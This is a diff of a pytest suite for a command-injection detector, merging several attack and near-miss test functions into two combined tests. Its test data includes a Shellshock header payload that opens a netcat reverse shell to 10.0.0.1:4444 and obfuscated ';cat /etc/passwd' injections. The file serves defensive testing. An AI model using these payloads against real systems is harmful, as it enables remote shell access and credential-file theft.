@@ -372,14 +372,6 @@ def _label(row: tuple[str, str]) -> str:
     return f"{row[0]}:{row[1][:60]}"
 
 
-@pytest.mark.parametrize("row", ATTACKS, ids=_label)
-def test_command_injection_is_caught(engine, row):
-    kind, value = row
-    hits = engine.inspect(carry(kind, value))
-    assert verdict(hits) == "attack", hits
-    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
 # Encodings and carriers that the generic carriers above do not produce.
 RAW_ATTACKS = [
     req("/cgi-bin/status.cgi", headers=[("Referer", "() { :;}; /bin/bash -c \"nc 10.0.0.1 4444 -e /bin/sh\"")]),
@@ -409,21 +401,6 @@ def test_encoded_and_raw_carriers(engine, r):
     assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
 
 
-# Code snippets that another detector flagged in round 1 (sqli, code); all clean now, so the whole verdict is asserted
-# again. A value listed here would only be held to silence from rce.py.
-OTHER_DETECTORS: set[str] = set()
-
-
-@pytest.mark.parametrize("row", BENIGN, ids=_label)
-def test_benign_near_miss_is_clean(engine, row):
-    kind, value = row
-    hits = engine.inspect(carry(kind, value))
-    assert not [h for h in hits if h.rule.startswith("rce:") and h.score >= THRESHOLD], hits
-    if value not in OTHER_DETECTORS:
-        assert verdict(hits) == "clean", hits
-
-
-# --- the tokenizer structure the rules above rest on
 @pytest.mark.parametrize("value,want", [
     (";c${u}at /etc/passwd", ";cat /etc/passwd"),          # unset braced variable inside a word
     (";ca$@t x", ";cat x"),                                  # positional parameter inside a word
@@ -587,21 +564,9 @@ def _carry2(kind: str, v: str):
     return carry(kind, v)
 
 
-@pytest.mark.parametrize("row", CLASS_ROWS, ids=_label)
-def test_crs_class_attack_is_caught(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
 @pytest.mark.parametrize("row", OTHER_CLASS_ATTACKS, ids=_label)
 def test_crs_class_owned_elsewhere_is_an_attack(engine, row):
     assert verdict(engine.inspect(_carry2(*row))) == "attack"
-
-
-@pytest.mark.parametrize("row", CLASS_BENIGN, ids=_label)
-def test_crs_class_near_miss_is_clean(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert verdict(hits) == "clean", hits
 
 
 @pytest.mark.parametrize("value,clean", [("~0", False), ("~+", False), ("~-", False), ("~5", True), ("~1", True),
@@ -663,18 +628,6 @@ GTFO_LOLBAS_BENIGN: list[tuple[str, str]] = [
 ]
 
 
-@pytest.mark.parametrize("row", GTFO_LOLBAS_ATTACKS, ids=_label)
-def test_gtfobins_and_lolbas_programs_are_caught(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
-@pytest.mark.parametrize("row", GTFO_LOLBAS_BENIGN, ids=_label)
-def test_program_names_as_words_are_clean(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert verdict(hits) == "clean", hits
-
-
 # Round 2, third batch: shapes of public PoCs (IoT loaders, argument injection into a wrapped program, options that run
 # commands, newline-only injection, Windows one-liners). Measured once before the fixes: 24 of 30 caught, and 1 of 22
 # benign flagged (`Shopping list:\ncurl cream\nwget? …`, a newline-separated list whose item is a tool name: left as is,
@@ -711,13 +664,20 @@ POC_BENIGN: list[tuple[str, str]] = [
 ]
 
 
-@pytest.mark.parametrize("row", POC_ATTACKS, ids=_label)
-def test_public_poc_shapes_are_caught(engine, row):
+# Each list above is one batch of the round it came from (first-pass numbers were taken per batch); every attack must
+# raise an rce finding and every near-miss must leave the whole request clean.
+ALL_ATTACKS = ATTACKS + CLASS_ROWS + GTFO_LOLBAS_ATTACKS + POC_ATTACKS
+ALL_BENIGN = BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN
+
+
+@pytest.mark.parametrize("row", ALL_ATTACKS, ids=_label)
+def test_command_injection_is_caught(engine, row):
     hits = engine.inspect(carry(*row))
+    assert verdict(hits) == "attack", hits
     assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
 
 
-@pytest.mark.parametrize("row", POC_BENIGN, ids=_label)
-def test_option_and_multiline_near_misses_are_clean(engine, row):
+@pytest.mark.parametrize("row", ALL_BENIGN, ids=_label)
+def test_benign_near_miss_is_clean(engine, row):
     hits = engine.inspect(carry(*row))
     assert verdict(hits) == "clean", hits
